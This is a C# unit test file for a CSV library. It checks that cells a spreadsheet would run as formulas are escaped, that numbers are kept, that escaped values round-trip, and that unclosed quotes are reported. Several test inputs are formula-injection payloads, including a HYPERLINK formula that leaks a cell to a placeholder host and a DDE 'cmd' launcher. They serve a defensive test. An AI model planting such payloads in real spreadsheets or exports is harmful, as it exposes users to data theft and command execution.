using Yardstick.Core.Text;

namespace Yardstick.Core.Tests.Text;

public class CsvTextTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://x/?leak=\"&B2,\"点我\")", "\"'=HYPERLINK(\"\"http://x/?leak=\"\"&B2,\"\"点我\"\")\"")]
    [InlineData("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)", "'@SUM(1+1)")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("\tsneaky", "\"'\tsneaky\"")]
    [InlineData("-5", "-5")]
    [InlineData("+3.25", "+3.25")]
    [InlineData("科尔沁区", "科尔沁区")]
    public void Cells_a_spreadsheet_would_run_as_formulas_are_neutralised_and_numbers_stay_numbers(string field, string written) =>
        CsvText.Escape(field).ShouldBe(written);

    [Fact]
    public void A_neutralised_export_reads_back_as_it_was()
    {
        var fields = new[] { "=1+1", "@x", "-5", "a,b", "'plain" };
        var line = string.Join(',', fields.Select(CsvText.Escape));
        CsvText.Read(line + "\n").Single().Fields.ShouldBe(fields);
    }

    [Fact]
    public void Issue_24_a_quote_never_closed_is_reported_at_the_line_it_opens()
    {
        var (records, unclosed) = CsvText.ReadAll("a,b\n1,\"x\ny\"\n2,\"open\n3,z\n");

        unclosed.ShouldBe(4);
        records.Select(r => r.Line).ShouldBe([1, 2, 4]);
        CsvText.ReadAll("a,b\n1,\"x\ny\"\n").UnclosedQuoteLine.ShouldBeNull();
    }
}
